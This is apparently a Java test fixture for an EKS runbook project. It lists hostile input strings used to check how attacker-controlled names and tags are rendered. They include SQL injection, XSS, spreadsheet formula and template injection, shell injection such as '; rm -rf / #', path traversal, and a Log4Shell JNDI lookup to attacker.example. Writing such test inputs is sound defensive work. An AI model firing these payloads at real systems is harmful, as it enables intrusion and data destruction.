package org.eksrunbook.gameday;

import java.util.List;

/** What an attacker may write into names, tags and user agents to get at those who read about it. */
public final class HostileTexts {

    public static final List<String> ALL = List.of(
            "' OR '1'='1",
            "x'; DROP TABLE trail_finding; --",
            "\" UNION SELECT null -- ",
            "%' ESCAPE '!",
            "<script>window.hacked=1</script>",
            "<img src=x onerror=window.hacked=1>",
            "\"><svg onload=window.hacked=1>",
            "' onmouseover='window.hacked=1",
            "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
            "<a href=javascript:window.hacked=1>x</a>",
            "<!--",
            "]]>",
            "&lt;b&gt;&amp;",
            "&#x3c;script&#x3e;",
            "[a link](javascript:window.hacked=1)",
            "![picture](https://attacker.example/p.png)",
            "# heading",
            "**bold** _italic_ `code`",
            "| a | b |",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "${execution.setVariable('hacked',true)}",
            "=view.rows",
            "$(touch /tmp/hacked)",
            "`touch /tmp/hacked`",
            "; rm -rf / #",
            "\u001b[2J\u001b[31mred",
            "abc\u202egnp.exe",
            "zero\u200bwidth\ufeff",
            "../../../../etc/passwd",
            "%2e%2e%2f%00",
            "line one\r\nLocation: https://attacker.example/",
            "${jndi:ldap://attacker.example/a}");

    private HostileTexts() {}
}
